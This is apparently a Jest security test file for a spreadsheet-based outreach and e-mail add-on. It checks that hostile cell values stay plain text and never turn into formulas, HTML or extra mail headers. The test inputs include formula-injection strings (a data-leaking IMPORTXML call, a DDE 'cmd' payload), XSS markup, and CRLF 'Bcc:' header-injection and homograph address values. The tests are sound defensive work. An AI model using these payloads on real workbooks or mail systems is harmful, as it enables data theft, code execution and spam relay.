// Hostile cells through the built bundle: what stands in a cell, or is typed into the sidebar, reaches sheets and
// messages as text and as nothing else, in each of the locales that read written text differently.
import { beforeAll, describe, expect, jest, test } from '@jest/globals';
import { existsSync } from 'node:fs';
import PostalMime from 'postal-mime';
import type {
  ChangesView,
  ChunkResult,
  FollowUpsView,
  TodayView,
  WriteReceipt,
} from '../../src/commands/answers';
import { oneLine } from '../../src/mail/renderTemplate';
import { cleanText } from '../../src/values/text';
import { splitOwners } from '../../src/workbook/owners';
import { isFormula } from '../../workbench/host/sheets/state';
import type { Host } from '../../workbench/host/createHost';
import {
  ask,
  book,
  cellsOf,
  HEADER,
  LEAD,
  openCampaign,
  putTab,
  recordsOf,
  request,
  SETTINGS,
} from './campaign';

jest.setTimeout(60_000);

beforeAll(() => {
  if (!existsSync('dist/Code.js')) throw new Error('The add-on is not built: run npm run build first.');
});

const LOCALES = ['en_US', 'de_DE', 'en_GB'];

/** Looks like a formula, a number, a date, a template, a header, a page; or hides what it is. */
const HOSTILE: readonly string[] = [
  '=1+1',
  '=HYPERLINK("https://example.com","Free care")',
  '=IMPORTXML("https://example.com/?"&A1,"//a")',
  '+1 503 555 0100',
  '-2+3',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "'quoted",
  '7-11',
  'May 1',
  '3.4.2026',
  '03/04/2026',
  '007',
  '1e3',
  '1,5',
  '50 %',
  'TRUE',
  'FALSCH',
  '#N/A',
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  '{{notes}} {{{contact name}}} {{#answer}}x{{/answer}}',
  '{"kind":"message","key":"x"}',
  'Amity\r\nBcc: thief@example.com',
  'Amity\nSubject: other\n\nother body',
  '=?utf-8?q?=0d=0aBcc:_thief=40example.com?=',
  'mixed \u202Egro.elpmaxe\u202C \u200Fשלום\u200E',
  '👩🏽‍⚕️👨‍👩‍👧‍👦🏳️‍🌈',
  'half \uD83D a pair \uDE00',
  'bell\u0007 mark\u0001 escape\u001b[31m',
  '→ Ana',
  'O\'Brien\'s "Place" & Co; \\ %s $& $1 \u00a0',
];

/** Those that the locales read differently, for what takes one call each. */
const TYPED = HOSTILE.slice(0, 18);

const LETTERS = 'abcdefghijklmnopqrstuvwxyz';
/** A row that is due for a follow-up, and shares nothing with the others. */
const ROWS = HOSTILE.map((_, index) => {
  const word = `${LETTERS.charAt(index % 26)}${LETTERS.charAt(Math.floor(index / 26))}`;
  return `Group ${word},Faith group,Ruth,ruth@${word}-hall.example.org,,,,Contacted,2026-11-03,2026-11-03,1,,`;
});
const COLUMN = Object.fromEntries(HEADER.split(',').map((name, index) => [name, index + 1]));

/** Writes a column as the text it is, as a person with a leading apostrophe would. */
function putTexts(host: Host, heading: string, texts: readonly string[]): void {
  const sheet = book(host).getSheetByName('Contacts');
  sheet?.getRange(2, COLUMN[heading] ?? 0, texts.length, 1).setValues(texts.map((text) => [`'${text}`]));
  host.model.flush();
}

async function hostileCampaign(locale: string): Promise<Host> {
  const host = await openCampaign({ rows: ROWS, locale, header: HEADER });
  for (const heading of ['Organization', 'Contact', 'Notes']) putTexts(host, heading, HOSTILE);
  return host;
}

/** Every formula in the workbook with the tab and the heading it stands under. */
function formulas(host: Host): { tab: string; heading: unknown; formula: string }[] {
  return host.model
    .snapshot()
    .tabs.flatMap((tab) =>
      tab.rows.flatMap((row) =>
        row.values.flatMap((value, column) =>
          isFormula(value) ? [{ tab: tab.name, heading: tab.rows[0]?.values[column], formula: value.f }] : [],
        ),
      ),
    );
}

/** The columns of the group as they stand, by heading. */
const columnOf = (host: Host, tab: string, heading: string) =>
  recordsOf(host, tab).map((row) => row[heading]);

const EVEN = { due: '', cap: 0, moves: [] };
const VOLUNTEERS = ['=Ana', "O'Brien", '<b>Bo</b>', 'Chidi "Chi" {{x}}', '7-11', '١٢٣', 'Zoë\u202E👩🏽‍⚕️'];

/** The message as the add-on wrote it, without what Gmail puts before it. */
const written = (raw: string) => raw.slice(raw.indexOf('From: '));
const HEADERS = ['From', 'To', 'Subject', 'X-Outreach-Key', 'MIME-Version', 'Content-Type'];

/** Sends all that are ready, in chunks, and returns what the plan said of each message that left. */
function sendAll(host: Host): FollowUpsView['ready'] {
  const sent: FollowUpsView['ready'][number][] = [];
  for (let round = 0; round < 6; round++) {
    const { ready } = ask<FollowUpsView>(host, 'getFollowUps', 'follow-ups');
    const chunk = ready.filter((item) => item.ticked).slice(0, 10);
    if (chunk.length === 0) break;
    const result = ask<ChunkResult>(
      host,
      'sendChunk',
      chunk.map((item) => request(item.contact)),
      'follow-ups',
    );
    expect(result.lines.filter((line) => line.result !== 'sent')).toEqual([]);
    sent.push(...chunk);
  }
  return sent;
}

/** UTF-8 has no half of a pair: a mail program sees the sign for "unknown". */
const inMail = (text: string) =>
  text.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '\ufffd');
const plainLines = (text: string | undefined) => (text ?? '').replace(/\r\n/g, '\n').replace(/\n$/, '');

describe.each(LOCALES)('hostile cells in %s', (locale) => {
  test('leave in messages as text, each with the headers that the add-on wrote', async () => {
    const host = await hostileCampaign(locale);
    ask(host, 'saveSetting', 'campaign', 'Care\r\nBcc: thief@example.com');
    ask(host, 'saveSetting', 'senderName', 'Ana "{{notes}}" <x>\nX-Evil: 1');
    const sent = sendAll(host);
    expect(sent.length).toBeGreaterThan(20);
    const stored = host.mailbox.stored();
    expect(stored).toHaveLength(sent.length);
    for (const [index, { raw: delivered, recipients }] of stored.entries()) {
      const raw = written(delivered);
      const plan = sent[index];
      if (plan === undefined) throw new Error('More left than was planned.');
      expect(recipients).toEqual([plan.to]);
      const mail = await PostalMime.parse(raw);
      const names = mail.headers.map((header) => header.originalKey);
      expect(names).toEqual(HEADERS);
      expect(mail.subject).toBe(inMail(plan.subject));
      expect(plainLines(mail.text)).toBe(inMail(plan.body));
      expect(mail.from).toEqual({ name: 'Ana "{{notes}}" <x> X-Evil: 1', address: LEAD.email });
      expect(mail.to).toEqual([{ name: inMail(oneLine(plan.toName)), address: plan.to }]);
      expect(mail.html).not.toMatch(/<script|<img|<x>/);
      expect(raw).toMatch(/^[\r\n -~]*$/);
      for (const line of raw.split('\r\n')) expect(line.length).toBeLessThanOrEqual(78);
    }
  });

  test('are in the log, in the tabs and in the rows as they were typed', async () => {
    const host = await hostileCampaign(locale);
    const before = {
      notes: columnOf(host, 'Contacts', 'Notes'),
      names: columnOf(host, 'Contacts', 'Organization'),
    };
    expect(before.notes).toEqual(HOSTILE);
    putTab(host, 'Volunteers', [['Name', 'E-mail'], ...VOLUNTEERS.map((name) => [`'${name}`, ''])]);
    sendAll(host);
    ask(host, 'markNextSteps');
    ask(host, 'buildTabs', EVEN);
    expect(columnOf(host, 'Contacts', 'Notes')).toEqual(HOSTILE);
    expect(columnOf(host, 'Contacts', 'Organization')).toEqual(HOSTILE);
    expect(columnOf(host, 'Contacts', 'Contact')).toEqual(HOSTILE);

    const log = recordsOf(host, 'Outreach log');
    const ids = columnOf(host, 'Contacts', 'Outreach ID');
    for (const line of log) {
      const name = HOSTILE[ids.indexOf(line['Contact'])] ?? '';
      expect(line['Organization']).toBe(cleanText(name));
    }
    expect(new Set(columnOf(host, 'Contacts', 'Owner'))).toEqual(new Set(VOLUNTEERS.map(cleanText)));
    const given = host.model
      .snapshot()
      .tabs.filter((tab) => tab.name.startsWith('→ '))
      .flatMap((tab) => recordsOf(host, tab.name));
    expect(given).toHaveLength(HOSTILE.length);
    for (const row of given) {
      const name = cleanText(HOSTILE[ids.indexOf(row['Outreach ID'])] ?? '');
      expect(row).toMatchObject({ Organization: name, 'Contact name': name });
    }
    for (const { tab, heading, formula } of formulas(host)) {
      expect([tab, heading]).toContain('Next step');
      for (const text of HOSTILE.filter((one) => one.startsWith('='))) expect(formula).not.toContain(text);
    }
  });

  test('typed into the sidebar read back the same: notes, answers, settings', async () => {
    const host = await openCampaign({ rows: ROWS.slice(0, TYPED.length), locale });
    const { ready } = ask<FollowUpsView>(host, 'getFollowUps', 'follow-ups');
    expect(ready).toHaveLength(TYPED.length);
    for (const [index, note] of TYPED.entries()) {
      const contact = ready[index]?.contact ?? '';
      ask(host, 'logTouch', { contact, channel: 'phone', outcome: 'talked', until: '', note });
    }
    expect(columnOf(host, 'Outreach log', 'Summary')).toEqual(TYPED);
    expect(columnOf(host, 'Contacts', 'Answer')).toEqual(TYPED);
    const place = () =>
      recordsOf(host, 'Settings').find((row) => row['Name'] === 'Open meeting place')?.['Value'];
    for (const text of TYPED.filter((_, index) => index % 2 === 0)) {
      ask<TodayView>(host, 'saveSetting', 'openMeetingPlace', text);
      expect(place()).toBe(text);
    }
    expect(formulas(host)).toEqual([]);
  });

  test('are back in place when changes are undone', async () => {
    const host = await hostileCampaign(locale);
    putTab(host, 'Volunteers', [
      ['Name', 'E-mail'],
      ['Ana', ''],
    ]);
    const owners = HOSTILE.map((text) => (splitOwners(text).length === 1 ? text : ''));
    putTexts(host, 'Owner', owners);
    putTexts(
      host,
      'E-mail',
      HOSTILE.map((text, index) => `${text.replace(/[\s@]/g, '')} x${index}@@hall.example.org`),
    );
    const before = cellsOf(host, 'Contacts');
    ask(host, 'fixProblems', []);
    const known = splitOwners(owners.join('\n')).slice(0, 6);
    for (const name of known) ask(host, 'confirmOwner', name, 'Ana');
    expect(columnOf(host, 'Contacts', 'Owner').filter((owner) => owner === 'Ana').length).toBeGreaterThan(4);
    expect(formulas(host)).toEqual([]);
    const changes = ask<ChangesView>(host, 'getChanges').groups.flatMap((group) => group.changes);
    for (const { id } of changes) {
      const undone = ask<WriteReceipt>(host, 'undoChange', id);
      expect(undone.kept).toEqual([]);
    }
    expect(cellsOf(host, 'Contacts')).toEqual(before);
    expect(formulas(host)).toEqual([]);
  });
});

/** Fills a cell to the last character that it holds. */
const LONG = 'long =1+1 {{x}} <b> é😀\n'.repeat(3000).slice(0, 50_000);

describe('a text as long as a cell can be', () => {
  async function longCampaign(): Promise<Host> {
    const host = await openCampaign();
    const cells = book(host).getSheetByName('Contacts');
    for (const heading of ['Organization', 'Contact', 'Phone', 'Notes'])
      cells?.getRange(2, COLUMN[heading] ?? 0, 1, 1).setValues([[`'${LONG}`]]);
    host.model.flush();
    return host;
  }

  test('is no reason to be slow, in whatever columns it stands', async () => {
    for (const text of [LONG, 'a'.repeat(50_000), '1 '.repeat(25_000)]) {
      const host = await openCampaign();
      for (const heading of ['Organization', 'E-mail', 'Phone', 'Known by', 'Owner', 'Status', 'Answer'])
        putTexts(host, heading, [text]);
      const start = performance.now();
      for (const name of ['getCheck', 'getToday', 'getNextSteps']) ask(host, name);
      ask(host, 'getFollowUps', 'auto');
      expect(performance.now() - start).toBeLessThan(10_000);
    }
  });

  test('is written down, given out and undone like any other', async () => {
    const host = await longCampaign();
    putTab(host, 'Volunteers', [
      ['Name', 'E-mail'],
      ['Ana', ''],
      ['Bo', ''],
    ]);
    const { ready } = ask<FollowUpsView>(host, 'getFollowUps', 'follow-ups');
    const contact = ready[0]?.contact ?? '';
    const before = cellsOf(host, 'Contacts');
    const note = `=${LONG.slice(1)}`;
    ask(host, 'logTouch', { contact, channel: 'phone', outcome: 'talked', until: '', note });
    expect(columnOf(host, 'Outreach log', 'Summary')).toEqual([note]);
    expect(columnOf(host, 'Contacts', 'Answer')[0]).toBe(note);
    const [change] = ask<ChangesView>(host, 'getChanges').groups.flatMap((group) => group.changes);
    expect(ask<WriteReceipt>(host, 'undoChange', change?.id ?? '').kept).toEqual([]);
    expect(cellsOf(host, 'Contacts').map((row) => row.slice(0, before[0]?.length))).toEqual(before);
    ask(host, 'buildTabs', EVEN);
    expect(columnOf(host, 'Contacts', 'Organization')[0]).toBe(LONG);
  });

  test('leaves whole in a message', async () => {
    const host = await longCampaign();
    putTab(host, 'Templates', [
      ['Key', 'Step', 'Category', 'Channel', 'Subject', 'Body'],
      ['mine', 'follow-up', '', 'e-mail', 'About {{contact name}}', 'Hello, {{notes}}'],
    ]);
    const { ready } = ask<FollowUpsView>(host, 'getFollowUps', 'follow-ups');
    const [plan] = ready;
    expect(plan?.body).toBe(`Hello, ${cleanText(LONG)}`);
    const result = ask<ChunkResult>(host, 'sendChunk', [request(plan?.contact ?? '')], 'follow-ups');
    expect(result.lines.map((line) => line.result)).toEqual(['sent']);
    const [stored] = host.mailbox.stored();
    const mail = await PostalMime.parse(stored?.raw ?? '');
    expect(mail.subject).toBe(plan?.subject);
    expect(plainLines(mail.text)).toBe(plan?.body);
    for (const line of written(stored?.raw ?? '').split('\r\n')) expect(line.length).toBeLessThanOrEqual(78);
  });
});

describe('an e-mail cell', () => {
  const DOUBTFUL = [
    '=HYPERLINK("mailto:ruth@amity.example.org","ruth@amity.example.org")',
    '=?utf-8?q?thief=40example.com=2c?=@amity.example.org',
    'ruth@аmity.example.org',
    '"ruth@amity.example.org, thief"@example.com',
    'ruth@[127.0.0.1]',
  ];

  test.each(DOUBTFUL)('with %j gets no message, and the reason is told', async (address) => {
    const host = await openCampaign();
    putTexts(host, 'E-mail', [address]);
    const view = ask<FollowUpsView>(host, 'getFollowUps', 'follow-ups');
    expect(view.ready.map((item) => item.row)).not.toContain(2);
    expect(view.stopped.find((item) => item.row === 2)?.code).toBe('bad-address');
    expect(formulas(host)).toEqual([]);
  });

  test.each(['ruth@amity.example.org\r\nBcc: thief@example.com', 'ruth@amity.example.org\u202E\u200B'])(
    'with %j is written to at its first address and nowhere else',
    async (address) => {
      const host = await openCampaign();
      putTexts(host, 'E-mail', [address]);
      const [item] = ask<FollowUpsView>(host, 'getFollowUps', 'follow-ups').ready;
      expect(item?.to).toBe('ruth@amity.example.org');
      ask(host, 'sendChunk', [request(item?.contact ?? '')], 'follow-ups');
      expect(host.mailbox.stored().map((stored) => stored.recipients)).toEqual([['ruth@amity.example.org']]);
    },
  );

  test('with a formula that shows an address gets its message there', async () => {
    const host = await openCampaign();
    host.edit('Contacts', 2, COLUMN['E-mail'] ?? 0, '=LOWER("RUTH@amity.example.org")');
    const [item] = ask<FollowUpsView>(host, 'getFollowUps', 'follow-ups').ready;
    ask(host, 'sendChunk', [request(item?.contact ?? '')], 'follow-ups');
    expect(host.mailbox.stored()[0]?.recipients).toEqual(['ruth@amity.example.org']);
  });
});

describe('what a lead typed', () => {
  test('a message edited by hand is sent as text, without fields and without headers of its own', async () => {
    const host = await openCampaign();
    const [item] = ask<FollowUpsView>(host, 'getFollowUps', 'follow-ups').ready;
    const edited = {
      subject: 'Hi {{notes}}\r\nBcc: thief@example.com\u0000',
      body: '{{notes}} <b>now</b>\n.\n',
    };
    ask(host, 'sendChunk', [request(item?.contact ?? '', { edited })], 'follow-ups');
    const [stored] = host.mailbox.stored();
    expect(stored?.recipients).toEqual(['ruth@amity.example.org']);
    const mail = await PostalMime.parse(stored?.raw ?? '');
    expect(mail.subject).toBe('Hi {{notes}} Bcc: thief@example.com');
    expect(plainLines(mail.text)).toBe('{{notes}} <b>now</b>\n.');
    expect(mail.html).toContain('&lt;b&gt;now&lt;/b&gt;');
  });

  test('an address for answers that would be two, or a header, sends nothing', async () => {
    for (const address of [
      'group@example.org\r\nBcc: thief@example.com',
      'group@example.org, thief@example.com',
    ]) {
      const host = await openCampaign({ settings: [...SETTINGS, ['Reply-to', address]] });
      const [item] = ask<FollowUpsView>(host, 'getFollowUps', 'follow-ups').ready;
      host.call('sendChunk', [request(item?.contact ?? '')], 'follow-ups');
      for (const { recipients, raw } of host.mailbox.stored()) {
        expect(recipients).toEqual(['ruth@amity.example.org']);
        expect(raw).not.toMatch(/^Bcc:/im);
      }
    }
  });
});
